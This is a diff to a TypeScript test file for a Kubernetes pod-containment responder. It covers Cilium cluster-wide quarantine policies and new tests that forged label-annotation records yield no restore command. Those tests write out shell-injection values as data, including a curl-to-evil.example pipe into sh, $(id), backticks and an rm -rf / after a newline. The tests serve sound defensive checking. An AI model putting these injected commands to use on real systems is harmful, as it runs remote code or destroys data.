@@ -18,9 +18,7 @@ import {
   type CoreV1ApiReadNamespacedPodRequest,
   type CoreV1ApiReadNodeRequest,
   type CustomObjectsApiCreateClusterCustomObjectRequest,
-  type CustomObjectsApiCreateNamespacedCustomObjectRequest,
   type CustomObjectsApiGetClusterCustomObjectRequest,
-  type CustomObjectsApiGetNamespacedCustomObjectRequest,
   type NetworkingV1ApiCreateNamespacedNetworkPolicyRequest,
   type NetworkingV1ApiListNamespacedNetworkPolicyRequest,
   type NetworkingV1ApiReadNamespacedNetworkPolicyRequest,
@@ -30,6 +28,7 @@ import {
   type V1Pod,
   type V1ReplicaSet,
 } from '@kubernetes/client-node';
+import { parse } from 'shell-quote';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { ACTIONS } from '../../shared/actions.js';
 import { parseContainmentRequest, type RequestFor } from '../../shared/containment.js';
@@ -316,12 +315,8 @@ class FakeCluster {
       },
       createClusterCustomObject: (param: CustomObjectsApiCreateClusterCustomObjectRequest) =>
         createCustom('createClusterCustomObject', param),
-      createNamespacedCustomObject: (param: CustomObjectsApiCreateNamespacedCustomObjectRequest) =>
-        createCustom('createNamespacedCustomObject', param),
       getClusterCustomObject: (param: CustomObjectsApiGetClusterCustomObjectRequest) =>
         getCustom('getClusterCustomObject', param),
-      getNamespacedCustomObject: (param: CustomObjectsApiGetNamespacedCustomObjectRequest) =>
-        getCustom('getNamespacedCustomObject', param),
     };
     return { core, networking, apps, custom };
   }
@@ -1179,22 +1174,30 @@ describe('a deny in the tier above NetworkPolicies, where the cluster serves one
     const request = named((r) => {
       r.eks.allowDnsEgress = true;
     });
-    cluster.servedTiers.set('cilium.io/v2', ['ciliumnetworkpolicies', 'ciliumendpoints']);
+    cluster.servedTiers.set('cilium.io/v2', [
+      'ciliumclusterwidenetworkpolicies',
+      'ciliumendpoints',
+    ]);
     cluster.addPod(victimPod(request));
     addPolicy(ingressFromVpc('payments'));
     const result = await contain(request);
     expect(outcomeOf(result, 'eks:isolate-pod-network').status).toBe('contained');
     const cilium = cluster.customObjects.get(
-      `cilium.io/ciliumnetworkpolicies/payments/${networkPolicyName(request.target.podUid!)}`,
+      `cilium.io/ciliumclusterwidenetworkpolicies//${networkPolicyName(request.target.podUid!)}`,
     ) as Json;
     expect(cilium.spec).toEqual({
-      endpointSelector: { matchLabels: { [QUARANTINE_LABEL]: request.target.podUid } },
+      endpointSelector: {
+        matchLabels: {
+          [QUARANTINE_LABEL]: request.target.podUid,
+          'k8s:io.kubernetes.pod.namespace': 'payments',
+        },
+      },
       ingressDeny: [{ fromEntities: ['all'] }],
       egressDeny: [{ toEntities: ['all'] }],
     });
     expect(result.notes.join(' ')).toContain('denies cluster DNS too');
     expect(result.release).toContain(
-      'kubectl -n payments delete ciliumnetworkpolicies.v2.cilium.io gdrr-quarantine-',
+      'kubectl delete ciliumclusterwidenetworkpolicies.v2.cilium.io gdrr-quarantine-',
     );
   });
 
@@ -1228,7 +1231,7 @@ describe('a deny in the tier above NetworkPolicies, where the cluster serves one
 
   it('a group served without the kind, a failed discovery, a refused create: no tier, allows judged without one', async () => {
     const request = named();
-    cluster.servedTiers.set('cilium.io/v2', ['ciliumendpoints']);
+    cluster.servedTiers.set('cilium.io/v2', ['ciliumnetworkpolicies', 'ciliumendpoints']);
     cluster.servedTiers.set('policy.networking.k8s.io/v1alpha2', ['clusternetworkpolicies']);
     cluster.addPod(victimPod(request));
     addPolicy(egressAllow('payments'));
@@ -1691,6 +1694,95 @@ describe('detaching the pod from its controller', () => {
     });
     expect(result.release).toContain('--overwrite app=victim');
     expect(cluster.writes()).toEqual([]);
+  });
+
+  // Anyone who may annotate the pod writes this record: a bare pod carrying a forged one
+  // gets no command built from it, only the word that the restore is manual.
+  it.each([
+    ['a ; in a value', '{"app":"x; curl evil.example | sh"}'],
+    ['a pipe in a key', '{"app|sh":"x"}'],
+    ['command substitution', '{"app":"$(id)"}'],
+    ['backticks', '{"app":"`id`"}'],
+    ['a newline', '{"app":"x\\nrm -rf /"}'],
+    ['quotes', `{"app":"x' 'y"}`],
+    ['a space in a key', '{"my app":"x"}'],
+    ['unicode', '{"app":"caf\u00e9"}'],
+    ['a key longer than 63', JSON.stringify({ ['k'.repeat(64)]: 'x' })],
+    ['a value longer than 63', JSON.stringify({ app: 'v'.repeat(64) })],
+    ['a non-string value', '{"app":1}'],
+    ['an array', '["app=x"]'],
+    ['a JSON string', '"app=x"'],
+    ['not JSON', 'app=x'],
+    ['no labels', '{}'],
+    ["the responder's own label", `{"${QUARANTINE_LABEL}":"x"}`],
+  ])(
+    'a bare pod whose detached-labels record has %s: no command from it, restore by hand',
+    async (_, record) => {
+      const request = detach();
+      cluster.addPod(
+        victimPod(request, {
+          labels: { app: 'quarantined-victim' },
+          annotations: { [DETACHED_LABELS_ANNOTATION]: record },
+        }),
+      );
+      const result = await contain(request);
+      const detached = outcomeOf(result, 'eks:detach-from-controller');
+      expect(detached.status).toBe('already-contained');
+      expect(detached.detail).toMatch(
+        /the detached-labels record on the pod is invalid \(.+\): restore the pod's labels by hand$/,
+      );
+      expect(detached.evidence).toBeUndefined();
+      expect(result.notes.join('\n')).toMatch(
+        /record on the pod is invalid .*restore the pod's labels by hand/,
+      );
+      expect(result.release).toBeUndefined();
+      expect(cluster.writes()).toEqual([]);
+    },
+  );
+
+  it('a forged record beside the label and the policy: their commands stay, none from the record', async () => {
+    const request = named((r) => {
+      r.actions = ['eks:label-pod', 'eks:isolate-pod-network', 'eks:detach-from-controller'];
+    });
+    cluster.addPod(
+      victimPod(request, {
+        labels: { app: 'quarantined-victim' },
+        annotations: { [DETACHED_LABELS_ANNOTATION]: '{"app":"x; curl evil.example | sh"}' },
+      }),
+    );
+    const result = await contain(request);
+    expect(statuses(result)).toMatchObject({ 'eks:detach-from-controller': 'already-contained' });
+    const words = parse(result.release!);
+    expect(words.filter((word) => typeof word !== 'string')).toEqual([
+      { op: ';' },
+      { op: ';' },
+      { op: ';' },
+    ]);
+    expect(result.release).not.toMatch(/curl|--overwrite/);
+    expect(result.notes).toContain(
+      'the detached-labels record on the pod is invalid (label value "x; curl evil.example | sh" is invalid): restore the pod\'s labels by hand',
+    );
+  });
+
+  it('a valid record with prefixed keys and an empty value gives the exact restore command', async () => {
+    const request = detach();
+    cluster.addPod(
+      victimPod(request, {
+        labels: { app: 'quarantined-victim' },
+        annotations: {
+          [DETACHED_LABELS_ANNOTATION]: '{"app.kubernetes.io/name":"victim","tier":""}',
+        },
+      }),
+    );
+    const result = await contain(request);
+    const pod = request.target.podName!;
+    expect(result.release).toBe(
+      [
+        'aws eks update-kubeconfig --region us-east-1 --name prod-eks',
+        `kubectl -n payments label pod ${pod} --overwrite app.kubernetes.io/name=victim tier=`,
+        `kubectl -n payments annotate pod ${pod} ${DETACHED_LABELS_ANNOTATION}-`,
+      ].join('; '),
+    );
   });
 
   it('a pod without a controller, or with a non-ReplicaSet controller, is skipped', async () => {
